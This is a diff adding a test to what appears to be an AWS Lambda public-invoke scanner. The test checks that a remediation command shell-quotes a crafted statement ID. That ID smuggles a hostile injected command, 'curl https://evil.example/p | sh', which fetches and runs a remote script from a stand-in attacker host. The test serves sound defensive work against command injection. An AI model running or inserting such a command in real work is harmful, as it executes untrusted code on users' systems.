@@ -383,6 +383,11 @@ describe("public-invoke", () => {
     expect(f?.remediation).toContain("aws lambda remove-permission");
   });
 
+  it("quotes a crafted Sid in the remove-permission command: pasted into a shell, it runs nothing", () => {
+    const [f] = findingsOf(publicInvoke, publicGrant({ Sid: "x; curl https://evil.example/p | sh #'" })());
+    expect(f?.remediation).toContain(String.raw`--statement-id 'x; curl https://evil.example/p | sh #'\'''`);
+  });
+
   it("says how outsiders get in: directly, or only through a service acting for their own resources", () => {
     const direct = outcome(publicInvoke, cases[0]!).findings[0]!.detail;
     expect(direct).toContain("Any AWS account can invoke the function directly");
